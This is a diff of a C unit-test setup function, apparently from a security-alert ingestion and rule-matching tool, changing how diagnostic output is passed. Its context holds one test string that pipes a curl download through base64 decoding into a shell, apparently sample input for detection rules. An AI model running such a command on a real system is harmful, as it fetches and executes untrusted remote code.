@@ -65,7 +65,7 @@ static int setup(void **state)
 	char name[32];
 	snprintf(name, sizeof(name), "case-%d.db", ++n);
 	assert_int_equal(store_open(tu_path(name), STORE_CREATE, &db, &err), 0);
-	assert_int_equal(rules_load_pack(db), 0);
+	assert_int_equal(rules_load_pack(db, &(struct diag_sink){diag_to_stream, stderr}), 0);
 	struct strbuf cmd;
 	strbuf_init(&cmd, 600);
 	strbuf_addstr(&cmd, "/bin/sh -c curl -fsSL https://example.org/x | base64 -d | sh #");
@@ -85,7 +85,7 @@ static int setup(void **state)
 	tu_ingest_text(db, text.buf);
 	strbuf_release(&text);
 	FILE *devnull = fopen("/dev/null", "w");
-	struct ingest_options o = {.analyst = "t", .errors = devnull};
+	struct ingest_options o = {.analyst = "t", .errors = {diag_to_stream, devnull}};
 	struct ingest_counts c = {0};
 	assert_int_equal(ingest_path(db, "tests/fixtures/kibana-alerts.ndjson", &o, &c), INGEST_OK);
 	struct kibana_counts k;
